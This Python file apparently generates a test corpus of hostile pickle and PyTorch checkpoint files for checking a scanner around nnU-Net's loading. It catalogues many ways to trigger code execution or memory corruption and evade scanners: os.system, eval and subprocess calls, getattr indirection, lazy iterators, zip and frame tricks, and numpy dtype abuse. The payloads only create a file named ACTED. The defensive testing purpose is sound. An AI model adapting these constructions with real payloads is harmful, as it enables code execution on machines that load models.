"""
Files that act when they are opened, each harmlessly: a file ACTED appears in the working folder, or, where numpy takes
bytes of the file for addresses, Python itself breaks down. The ideas are those of public collections for scanners of
pickles (fickling, picklescan, modelscan) and of the advisories against these; the files are made here.
"""

import marshal
import pathlib
import zipfile
from dataclasses import dataclass

from assemble import *  # noqa: F403

SHELL = "echo > ACTED"
CODE = "open('ACTED', 'w').close()"


@dataclass(frozen=True)
class Case:
    """One hostile file."""

    name: str
    content: bytes
    #: What must be named: `module.name`, or a part of the sentence that tells it.
    tells: tuple
    #: Who opens it: `torch.load`, `pickle.load`, or `postprocessing` for nnU-Net's own way with that file.
    opener: str = "torch.load"
    #: `file`: ACTED appears. `crash`: Python breaks down, at the latest when it prints and lets go what it loaded.
    effect: str = "file"
    #: A module that lies in the working folder, and its name.
    planted: str = ""
    planted_as: str = "planted"

    @property
    def file(self):
        return self.name + (".pth" if self.opener == "torch.load" else ".pkl")


CASES = []


def add(name, content, *tells, **more):
    CASES.append(Case(name, content, tells, **more))


def bare(name, code, *tells, version=4, **more):
    """A pickle and nothing around it."""
    add(name, pickled(code, version), *tells, **more)


def runs(module, name, *args, label=None, version=4):
    """A call of one function, within a checkpoint of the usual form."""
    code = call(stack_glob(module, name) if version >= 4 else glob(module, name), *args)
    label = label or f"{module}.{name}".replace("__", "").replace("._", ".").replace("_", "-").lower()
    add(f"call-{label}", zipped(pickled(checkpoint(code), version)), f"{module}.{name}")


# Sizes and flags that numpy believes: bytes of the file become addresses of objects ---------------------------------------------------------


def dtype(code, flags, size=-1, names=NONE, fields=NONE, built=True):
    state = tup(number(3), text("|"), NONE, names, fields, number(size), number(-1 if size < 0 else 1), number(flags))
    made = call(stack_glob("numpy", "dtype"), text(code), b"\x89", b"\x88")
    return made + state + BUILD if built else made


def array(type_, content):
    made = call(stack_glob("numpy._core.multiarray", "_reconstruct"), stack_glob("numpy", "ndarray"), tup(number(0)), raw(b"b"))
    return made + tup(number(1), tup(number(1)), type_, b"\x89", content) + BUILD


address = raw(b"\x10" + bytes(7))
with_object = dict(size=8, names=tup(text("a")), fields=EMPTY_DICT + text("a") + tup(dtype("O8", 63), number(0)) + SETITEM)
add("memory-objects-from-bytes", pickled(array(dtype("O8", 0), address), 4), "to its end", opener="pickle.load", effect="crash")
add("memory-structure-from-bytes", pickled(array(dtype("V8", 0, **with_object), address), 4), "to its end", opener="pickle.load", effect="crash")
add(
    "memory-type-changes",
    pickled(
        dtype("V8", 0, built=False) + put(1) + POP + array(get(1), address) + put(2) + POP
        + get(1) + tup(number(3), text("|"), NONE, with_object["names"], with_object["fields"], number(8), number(1), number(27)) + BUILD + POP + get(2),
        4,
    ),
    "to its end",
    opener="pickle.load",
    effect="crash",
)
add(
    "memory-scalar-from-bytes",
    pickled(call(stack_glob("numpy._core.multiarray", "scalar"), dtype("V8", 0, **with_object), address), 4),
    "to its end",
    opener="pickle.load",
    effect="crash",
)

# Functions that reach the machine ------------------------------------------------------------------------------------------------------

runs("os", "system", text(SHELL))
runs("posix", "system", text(SHELL), version=2)
runs("os", "popen", text(SHELL))
runs("os", "mkdir", text("ACTED"))
runs("posix", "mkdir", text("ACTED"))
runs("subprocess", "run", lst(text("touch"), text("ACTED")))
runs("subprocess", "Popen", lst(text("touch"), text("ACTED")))
runs("subprocess", "call", lst(text("touch"), text("ACTED")))
runs("subprocess", "check_output", lst(text("touch"), text("ACTED")))
runs("subprocess", "getoutput", text(SHELL))
runs("builtins", "eval", text(CODE))
runs("builtins", "exec", text(CODE))
runs("builtins", "open", text("ACTED"), text("w"))
runs("io", "open", text("ACTED"), text("w"))
runs("_io", "open", text("ACTED"), text("w"))
runs("_io", "FileIO", text("ACTED"), text("w"))
runs("io", "FileIO", text("ACTED"), text("w"))
runs("codecs", "open", text("ACTED"), text("w"))
runs("_pyio", "open", text("ACTED"), text("w"))
runs("logging", "FileHandler", text("ACTED"))
runs("tempfile", "mkdtemp", text(""), text("ACTED"), text("."))
runs("shutil", "copyfile", text("/dev/null"), text("ACTED"))
runs("runpy", "_run_code", call(glob("builtins", "compile"), text(CODE), text("x"), text("exec")), EMPTY_DICT)
runs("timeit", "timeit", text(CODE), text("pass"))
runs("cProfile", "run", text(CODE))
runs("profile", "run", text(CODE))
runs("pty", "spawn", lst(text("touch"), text("ACTED")))
runs("uuid", "_get_command_stdout", text("touch"), text("ACTED"))
runs("_osx_support", "_read_output", text(SHELL))
runs("imaplib", "IMAP4_stream", text(SHELL))
runs("pydoc", "pipepager", text("x"), text("touch ACTED; cat"))
runs("multiprocessing.util", "spawnv_passfds", raw(b"/bin/touch"), lst(raw(b"touch"), raw(b"ACTED")), EMPTY_TUPLE)
runs("sqlite3", "connect", text("ACTED"))
runs("dbm.dumb", "open", text("ACTED"), text("n"))
runs("shelve", "open", text("ACTED"), text("n"))
runs("zipfile", "ZipFile", text("ACTED"), text("w"))
runs("tarfile", "open", text("ACTED"), text("w"))
runs("gzip", "open", text("ACTED"), text("w"))

# Those of torch, numpy and nnU-Net's own surroundings ---------------------------------------------------------------------------------

nested = pickled(call(glob("posix", "system"), text(SHELL)))
runs("torch.serialization", "_open_file", text("ACTED"), text("w"))
runs("torch.utils.collect_env", "run", text("touch ACTED"))
runs("torch.storage", "_load_from_bytes", raw(legacy(data=pickled(call(glob("posix", "system"), text(SHELL))))))
runs("torch", "save", NONE, text("ACTED"))
runs("torch", "from_file", text("ACTED"), b"\x88", number(4))
runs("torch.jit.unsupported_tensor_ops", "execWrapper", text(CODE), EMPTY_DICT, EMPTY_DICT)
runs("numpy.testing._private.utils", "runstring", text(CODE), EMPTY_DICT)
runs("numpy.f2py.crackfortran", "getlincoef", text(CODE), EMPTY_DICT)
runs("numpy", "memmap", text("ACTED"), text("uint8"), text("w+"), number(0), tup(number(4)))
runs("numpy", "save", text("ACTED"), number(1))
runs("numpy", "savetxt", text("ACTED"), lst(number(1)))
runs("numpy", "savez", text("ACTED"), number(1))
runs("pickle", "loads", raw(nested))
runs("_pickle", "loads", raw(nested))
runs("batchgenerators.utilities.file_and_folder_operations", "save_json", EMPTY_DICT, text("ACTED"))
runs("batchgenerators.utilities.file_and_folder_operations", "maybe_mkdir_p", text("ACTED"))
runs("nnunetv2.utilities.file_path_utilities", "maybe_mkdir_p", text("ACTED"), label="nnunetv2-mkdir")

# Dotted names: attributes of attributes ------------------------------------------------------------------------------------------------

for label, module, name, args in [
    ("torch-serialization-os-system", "torch.serialization", "os.system", [text(SHELL)]),
    ("torch-utils-torch-os", "torch._utils", "torch.serialization.os.system", [text(SHELL)]),
    ("collections-sys-modules", "collections", "_sys.modules.get", [text("os")]),
    ("numpy-ndarray-tofile", "numpy", "ndarray.tofile", [call(glob("numpy", "arange"), number(3)), text("ACTED")]),
    ("pathlib-os-mkdir", "pathlib", "os.mkdir", [text("ACTED")]),
    ("pathlib-touch", "pathlib", "Path.touch", [call(stack_glob("pathlib", "PosixPath"), text("ACTED"))]),
    ("pathlib-write", "pathlib", "Path.write_text", [call(stack_glob("pathlib", "PosixPath"), text("ACTED")), text("x")]),
    ("config-module", "torch.utils._config_module", "ConfigModule.load_config", [NONE, raw(nested)]),
    ("interpreter", "code", "InteractiveInterpreter.runsource", [call(glob("code", "InteractiveInterpreter")), text(CODE)]),
    ("trace", "trace", "Trace.run", [call(glob("trace", "Trace"), number(0), number(0)), text(CODE)]),
    ("bdb", "bdb", "Bdb.run", [call(glob("bdb", "Bdb")), text(CODE)]),
    ("grammar", "lib2to3.pgen2.grammar", "Grammar.loads", [call(glob("lib2to3.pgen2.grammar", "Grammar")), raw(nested)]),
]:
    if label == "collections-sys-modules":
        code = call(call(stack_glob("builtins", "getattr"), call(stack_glob(module, name), *args), text("system")), text(SHELL))
    else:
        code = call(stack_glob(module, name), *args)
    add(f"dotted-{label}", zipped(pickled(checkpoint(code), 4)), f"{module}.{name}")

# Calls of what a call returned ----------------------------------------------------------------------------------------------------------

imported = call(stack_glob("builtins", "__import__"), text("os"))
got = lambda what, name: call(stack_glob("builtins", "getattr"), what, text(name))  # noqa: E731

bare("result-import-getattr", call(got(imported, "system"), text(SHELL)), "builtins.__import__", "builtins.getattr", "returned")
bare(
    "result-import-dotted-name",
    call(call(stack_glob("torch.serialization", "_import_dotted_name"), text("os.system")), text(SHELL)),
    "torch.serialization._import_dotted_name",
    "returned",
)
bare(
    "result-import-dotted-name-utils",
    call(call(stack_glob("torch._utils", "_import_dotted_name"), text("os.system")), text(SHELL)),
    "torch._utils._import_dotted_name",
)
bare(
    "result-resolve-name",
    call(call(stack_glob("pkgutil", "resolve_name"), text("os:system")), text(SHELL)),
    "pkgutil.resolve_name",
)
bare(
    "result-pydoc-locate",
    call(call(stack_glob("pydoc", "locate"), text("os.system")), text(SHELL)),
    "pydoc.locate",
)
bare(
    "result-attrgetter",
    call(call(call(stack_glob("operator", "attrgetter"), text("system")), call(stack_glob("importlib", "import_module"), text("os"))), text(SHELL)),
    "operator.attrgetter",
    "importlib.import_module",
)
bare(
    "result-methodcaller",
    call(call(stack_glob("operator", "methodcaller"), text("system"), text(SHELL)), call(stack_glob("importlib", "import_module"), text("os"))),
    "operator.methodcaller",
)
bare(
    "result-partial",
    call(call(stack_glob("functools", "partial"), stack_glob("os", "system"), text(SHELL))),
    "functools.partial",
    "os.system",
)
bare(
    "result-code-object",
    call(
        call(
            stack_glob("types", "FunctionType"),
            call(stack_glob("marshal", "loads"), raw(marshal.dumps(compile(CODE, "x", "exec")))),
            call(stack_glob("builtins", "globals")),
        )
    ),
    "types.FunctionType",
    "marshal.loads",
)
bare(
    "result-ctypes",
    call(got(call(stack_glob("ctypes", "CDLL"), NONE), "system"), raw(SHELL.encode() + b"\0")),
    "ctypes.CDLL",
)
bare(
    "result-newobj",
    got(imported, "mkdir") + tup(text("ACTED")) + REDUCE,
    "builtins.__import__",
)

# Consumers: something allowed makes something lazy run ------------------------------------------------------------------------------------

lazy = call(stack_glob("builtins", "map"), stack_glob("builtins", "exec"), lst(text(CODE)))
for consumer, module in [("list", "builtins"), ("tuple", "builtins"), ("set", "builtins"), ("frozenset", "builtins"), ("Counter", "collections"), ("deque", "collections")]:
    bare(f"lazy-map-{consumer.lower()}", call(stack_glob(module, consumer), lazy), "builtins.map", "builtins.exec")
bare(
    "lazy-starmap",
    call(stack_glob("collections", "deque"), call(stack_glob("itertools", "starmap"), stack_glob("os", "system"), lst(tup(text(SHELL))))),
    "itertools.starmap",
    "os.system",
)
bare(
    "lazy-filter",
    call(stack_glob("builtins", "frozenset"), call(stack_glob("builtins", "filter"), stack_glob("os", "system"), lst(text(SHELL)))),
    "builtins.filter",
)
bare(
    "lazy-reduce",
    call(stack_glob("functools", "reduce"), stack_glob("os", "mkdir"), lst(text("ACTED"), number(511))),
    "functools.reduce",
    "os.mkdir",
)
bare(
    "lazy-defaultdict-getitem",
    call(
        stack_glob("operator", "getitem"),
        call(stack_glob("collections", "defaultdict"), call(stack_glob("functools", "partial"), stack_glob("os", "system"), text(SHELL))),
        number(1),
    ),
    "operator.getitem",
    "functools.partial",
)

# Allowed names in other ways ------------------------------------------------------------------------------------------------------------

bare(
    "misuse-rebuild-from-type",
    call(stack_glob("torch._tensor", "_rebuild_from_type_v2"), stack_glob("os", "system"), stack_glob("torch", "Tensor"), tup(text(SHELL)), EMPTY_DICT),
    "os.system",
    "torch._tensor._rebuild_from_type_v2",
)
bare(
    "misuse-rebuild-from-type-open",
    call(stack_glob("torch._tensor", "_rebuild_from_type_v2"), stack_glob("torch.serialization", "_open_file"), stack_glob("torch", "Tensor"), tup(text("ACTED"), text("w")), NONE),
    "torch.serialization._open_file",
    "torch._tensor._rebuild_from_type_v2",
)
bare(
    "misuse-reconstruct-planted",
    call(stack_glob("numpy._core.multiarray", "_reconstruct"), stack_glob("planted", "Array"), tup(number(0)), raw(b"b")),
    "planted.Array",
    "numpy._core.multiarray._reconstruct",
    planted="import numpy\nclass Array(numpy.ndarray):\n    def __array_finalize__(self, other):\n        open('ACTED', 'w').close()\n",
)
bare(
    "misuse-reconstructor",
    call(stack_glob("copyreg", "_reconstructor"), stack_glob("planted", "Thing"), stack_glob("planted", "Thing"), NONE),
    "copyreg._reconstructor",
    "planted.Thing",
    planted="class Thing:\n    def __new__(cls, state):\n        open('ACTED', 'w').close()\n        return object.__new__(cls)\n",
)
bare(
    "misuse-ordered-dict-setstate",
    call(stack_glob("collections", "OrderedDict"))
    + EMPTY_DICT + text("__setstate__") + stack_glob("os", "system") + SETITEM + BUILD + text(SHELL) + BUILD,
    "os.system",
    "collections.OrderedDict",
)
bare(
    "misuse-ordered-dict-append",
    call(stack_glob("collections", "OrderedDict"))
    + EMPTY_DICT + text("append") + stack_glob("os", "system") + SETITEM + BUILD + text(SHELL) + APPEND,
    "os.system",
)
bare(
    "misuse-class-setattr",
    stack_glob("pathlib", "PosixPath")
    + tup(NONE, EMPTY_DICT + text("__truediv__") + stack_glob("os", "mkdir") + SETITEM) + BUILD + POP
    + call(stack_glob("operator", "truediv"), call(stack_glob("pathlib", "PosixPath"), text("x")), text("ACTED")),
    "pathlib.PosixPath",
    "os.mkdir",
)
bare(
    "misuse-function-code",
    stack_glob("torch._utils", "_rebuild_parameter")
    + tup(NONE, EMPTY_DICT + text("__code__") + got(stack_glob("torch.serialization", "_import_dotted_name"), "__code__") + SETITEM) + BUILD + POP
    + call(call(stack_glob("torch._utils", "_import_dotted_name"), text("os.system")), text(SHELL)),
    "torch._utils._rebuild_parameter",
)

# The machine ----------------------------------------------------------------------------------------------------------------------------

system = stack_glob("os", "system")
bare("machine-protocol-0", b"cposix\nsystem\n(V" + SHELL.encode() + b"\ntR", "posix.system", version=0)
bare("machine-protocol-1-escape", b"c\x70osix\nsystem\n(S'\\x65cho > ACTED'\ntR", "posix.system", version=0)
bare("machine-inst", b"(V" + SHELL.encode() + b"\niposix\nsystem\n", "posix.system", version=0)
bare("machine-obj", MARK + system + text(SHELL) + OBJ, "os.system")
bare("machine-obj-popped", MARK + system + text(SHELL) + OBJ + POP + NONE, "os.system")
bare("machine-popped", call(system, text(SHELL)) + POP + EMPTY_DICT, "os.system")
bare("machine-pop-mark", MARK + call(system, text(SHELL)) + POP_MARK + EMPTY_DICT, "os.system")
bare("machine-newobj", stack_glob("numpy", "memmap") + tup(text("ACTED"), text("uint8"), text("w+"), number(0), tup(number(4))) + NEWOBJ, "numpy.memmap")
bare(
    "machine-newobj-ex",
    stack_glob("numpy", "memmap") + tup(text("ACTED")) + dic(mode=text("w+"), shape=tup(number(4))) + NEWOBJ_EX,
    "numpy.memmap",
)
bare("machine-memo", text("os") + put(1) + POP + text("system") + put(2) + POP + get(1) + get(2) + STACK_GLOBAL + tup(text(SHELL)) + REDUCE, "os.system")
bare("machine-memo-overwritten", text("collections") + put(1) + POP + text("os") + put(1) + POP + get(1) + text("system") + STACK_GLOBAL + tup(text(SHELL)) + REDUCE, "os.system")
bare("machine-dup", text(SHELL) + TUPLE1 + put(1) + POP + system + DUP + POP + get(1) + REDUCE, "os.system")
bare("machine-unicode-escapes", b"Vo\\u0073\n" + b"Vsyste\\u006d\n" + STACK_GLOBAL + tup(text(SHELL)) + REDUCE, "os.system")
bare("machine-global-dotted", glob("torch.serialization", "os.system") + tup(text(SHELL)) + REDUCE, "torch.serialization.os.system")
bare("machine-python2-commands", glob("commands", "getoutput") + tup(text(SHELL)) + REDUCE, "commands.getoutput", version=2)
bare("machine-python2-eval", glob("__builtin__", "eval") + tup(text(CODE)) + REDUCE, "__builtin__.eval", version=2)
bare("machine-python2-cpickle", glob("cPickle", "loads") + tup(raw(nested)) + REDUCE, "cPickle.loads", version=2)
bare("machine-python2-reduce", glob("__builtin__", "reduce") + tup(glob("os", "mkdir"), lst(text("ACTED"), number(511))) + REDUCE, "__builtin__.reduce", version=2)
bare(
    "machine-extension",
    call(stack_glob("copyreg", "add_extension"), text("os"), text("system"), number(7)) + POP + b"\x82\x07" + tup(text(SHELL)) + REDUCE,
    "copyreg.add_extension",
    "copyreg.extension 7",
)
bare("machine-protocol-changes", proto(2) + proto(4) + glob("torch.serialization", "os.system") + tup(text(SHELL)) + REDUCE, "torch.serialization.os.system", version=0)
bare("machine-setitems-on-list", lst(NONE) + number(0) + NONE + SETITEM + POP + call(system, text(SHELL)), "to its end")
bare("machine-before-damage", call(system, text(SHELL)) + b"\xff", "os.system")
bare("machine-before-end", call(system, text(SHELL)) + b"X\xff\xff\x00\x00", "os.system")
bare("machine-before-build-on-text", call(system, text(SHELL)) + text("x") + NONE + BUILD, "os.system")
add("machine-in-frame", pickled(frame(call(system, text(SHELL)) + STOP), 4), "os.system")
add(
    "machine-across-frame",
    # The frame ends within the first line: Python's reader in C goes on with the line behind it, os.
    zipped(proto(4) + b"\x95" + struct.pack("<Q", 12) + b"ccollections" + b"os\nsystem\n" + tup(text(SHELL)) + REDUCE + STOP),
    "frame",
)
add(
    "machine-text-across-frame",
    zipped(
        proto(4) + b"\x95" + struct.pack("<Q", 7) + b"X" + struct.pack("<I", 40) + b"ab"
        + b"x" * 40 + POP + call(system, text(SHELL)) + STOP
    ),
    "frame",
)

# Limits hide nothing --------------------------------------------------------------------------------------------------------------------

bare("limit-marks-before", MARK * 20_000 + POP_MARK * 20_000 + call(system, text(SHELL)), "to its end")
bare("limit-marks-behind", call(system, text(SHELL)) + MARK * 20_000 + POP_MARK * 20_000, "os.system", "to its end")
bare("limit-integer", b"\x8b" + struct.pack("<i", 300) + b"\1" * 300 + POP + call(system, text(SHELL)), "to its end")
bare("limit-memo", NONE + b"r" + struct.pack("<I", 5000) + POP + call(system, text(SHELL)), "to its end")
bare("limit-key", EMPTY_DICT + NONE + TUPLE1 * 20 + NONE + SETITEM + POP + call(system, text(SHELL)), "to its end")
add(
    "limit-size-deflated",
    zipped(proto(4) + (NONE + POP) * 34_000_000 + call(system, text(SHELL)) + STOP, method=zipfile.ZIP_DEFLATED),
    "to its end",
)
add(
    "limit-text-deflated",
    zipped(proto(4) + text("x" * (17 * 2**20)) + POP + call(system, text(SHELL)) + STOP, method=zipfile.ZIP_DEFLATED),
    "to its end",
)
bare("limit-escaped-number", b"I0x10\n" + POP + call(system, text(SHELL)), "to its end")

# Imports alone --------------------------------------------------------------------------------------------------------------------------

PLANTED = "open('ACTED', 'w').close()\nvalue = 1\n"
bare("import-planted", stack_glob("planted", "value"), "planted.value", planted=PLANTED)
bare("import-planted-builtin", glob("__builtin__", "set") + EMPTY_TUPLE + REDUCE, "__builtin__.set", version=4, planted=PLANTED + "set = set\n", planted_as="__builtin__")
bare("import-in-state", call(stack_glob("collections", "OrderedDict")) + EMPTY_DICT + text("_metadata") + stack_glob("planted", "value") + SETITEM + BUILD, "planted.value", planted=PLANTED)
bare("import-unknown-class", stack_glob("planted", "Thing") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD, "planted.Thing", planted="class Thing:\n    def __setstate__(self, state):\n        open('ACTED', 'w').close()\n")
bare("import-appends", stack_glob("planted", "Thing") + EMPTY_TUPLE + NEWOBJ + NONE + APPEND, "planted.Thing", planted="class Thing:\n    def append(self, item):\n        open('ACTED', 'w').close()\n")
bare("import-hash", EMPTY_DICT + stack_glob("planted", "Thing") + EMPTY_TUPLE + NEWOBJ + NONE + SETITEM, "planted.Thing", planted="class Thing:\n    def __hash__(self):\n        open('ACTED', 'w').close()\n        return 1\n")

# Everything that torch reads --------------------------------------------------------------------------------------------------------------

attack = call(glob("posix", "system"), text(SHELL))
evil = pickled(checkpoint(attack))
good = pickled(checkpoint(NONE))
for part in LEGACY_PARTS:
    add(f"legacy-{part}", legacy(**{part: pickled(attack if part != "data" else checkpoint(attack))}), "posix.system")
add("legacy-magic-and-more", legacy(magic=pickled(attack + POP + b"\x8a\x0a" + MAGIC.to_bytes(10, "little"))), "posix.system")
add("legacy-magic-computed", legacy(magic=pickled(call(glob("__builtin__", "eval"), text("open('ACTED', 'w').close() or 0x1950A86A20F9469CFC6C")))), "__builtin__.eval")
add("legacy-zip-behind", legacy(data=evil) + zipped(good), "posix.system")
add("tar-pickle", tarred(pickle=pickled(attack)), "tar file", "posix.system")
add("tar-storages", tarred(storages=pickled(attack)), "tar file", "posix.system")
add("tar-tensors", tarred(tensors=pickled(attack)), "tar file", "posix.system")
add("torchscript", pathlib.Path(__file__).with_name("torchscript.pth").read_bytes(), "TorchScript")
add("zip-deflated", zipped(evil, method=zipfile.ZIP_DEFLATED), "posix.system")
add("zip-upper-case", zipped(evil, name="DATA.PKL"), "posix.system")
add("zip-mixed-case-folder", zipped(evil, name="Data.Pkl"), "posix.system")
add("zip-two-evil-first", raw_zip([(b"a/data.pkl", b"a/data.pkl", evil, 0, 0), (b"a/data.pkl", b"a/data.pkl", good, 0, 0), (b"a/version", b"a/version", b"3\n", 0, 0)]), "posix.system", "more than once")
add("zip-two-evil-second", raw_zip([(b"a/data.pkl", b"a/data.pkl", good, 0, 0), (b"a/data.pkl", b"a/data.pkl", evil, 0, 0), (b"a/version", b"a/version", b"3\n", 0, 0), (b"a/z", b"a/z", b"", 0, 0)]), "posix.system", "more than once")
add("zip-two-cases-first", raw_zip([(b"a/DATA.PKL", b"a/DATA.PKL", evil, 0, 0), (b"a/data.pkl", b"a/data.pkl", good, 0, 0), (b"a/version", b"a/version", b"3\n", 0, 0)]), "posix.system", "more than once")
add("zip-two-cases-second", raw_zip([(b"a/data.pkl", b"a/data.pkl", good, 0, 0), (b"a/DATA.PKL", b"a/DATA.PKL", evil, 0, 0), (b"a/version", b"a/version", b"3\n", 0, 0), (b"a/z", b"a/z", b"", 0, 0)]), "posix.system", "more than once")
add("zip-local-name", raw_zip([(b"a/nothing.", b"a/data.pkl", evil, 0, 0), (b"a/version", b"a/version", b"3\n", 0, 0)]), "posix.system")
add("zip-first-folder", raw_zip([(b"b/version", b"b/version", b"3\n", 0, 0), (b"b/data.pkl", b"b/data.pkl", evil, 0, 0)]), "posix.system")
add("zip-comment", raw_zip([(b"a/data.pkl", b"a/data.pkl", evil, 0, 0), (b"a/version", b"a/version", b"3\n", 0, 0)], comment=b"x" * 3000), "posix.system")
add("zip-method-deflate", raw_zip([(b"a/data.pkl", b"a/data.pkl", evil, 8, 0), (b"a/version", b"a/version", b"3\n", 0, 0)]), "posix.system")
add("zip-data-version", raw_zip([(b"a/data.pkl", b"a/data.pkl", evil, 0, 0), (b"a/.data/version", b"a/.data/version", b"3\n", 0, 0)]), "posix.system")
add("zip-deep-folder", raw_zip([(b"a/b/c", b"a/b/c", b"", 0, 0), (b"a/data.pkl", b"a/data.pkl", evil, 0, 0), (b"a/version", b"a/version", b"3\n", 0, 0)]), "posix.system")
add("zip-second-pickle-in-entry", zipped(good[:-1] + POP + attack + STOP), "posix.system")

# Every pickle that nnU-Net opens ------------------------------------------------------------------------------------------------------------

add("case-properties", pickled(dic(spacing=lst(number(1)), class_locations=EMPTY_DICT, extra=call(stack_glob("os", "system"), text(SHELL))), 4), "os.system", opener="pickle.load")
add("case-like-git-annex", b"V/annex/objects/x\n0" + attack + STOP, "posix.system", opener="pickle.load")
add("case-numpy-object", pickled(
    call(stack_glob("numpy._core.multiarray", "_reconstruct"), stack_glob("numpy", "ndarray"), tup(number(0)), raw(b"b"))
    + tup(number(1), tup(number(1)), call(stack_glob("numpy", "dtype"), text("O8"), b"\x89", b"\x88") + tup(number(3), text("|"), NONE, NONE, NONE, number(-1), number(-1), number(63)) + BUILD, b"\x89", lst(call(stack_glob("os", "system"), text(SHELL)))) + BUILD, 4), "os.system", opener="pickle.load")
add("plans-of-version-1", pickled(dic(plans_per_stage=EMPTY_DICT, extra=call(stack_glob("os", "system"), text(SHELL))), 4), "os.system", opener="pickle.load")
add("torch-tensor-in-pickle", pickled(call(stack_glob("torch.storage", "_load_from_bytes"), raw(legacy(data=pickled(attack)))), 4), "torch.storage._load_from_bytes", opener="pickle.load")
add("postprocessing-calls", pickled(tup(lst(call(stack_glob("os", "system"), text(SHELL))), lst(EMPTY_DICT)), 4), "os.system", opener="pickle.load")
add("postprocessing-named", pickled(tup(lst(stack_glob("planted", "act")), lst(EMPTY_DICT)), 4), "planted.act", opener="postprocessing", planted="def act(segmentation):\n    open('ACTED', 'w').close()\n    return segmentation\n")
add("postprocessing-exec", pickled(tup(lst(stack_glob("builtins", "print")), lst(EMPTY_DICT + text("file") + call(stack_glob("builtins", "open"), text("ACTED"), text("w")) + SETITEM)), 4), "builtins.print", "builtins.open", opener="postprocessing")
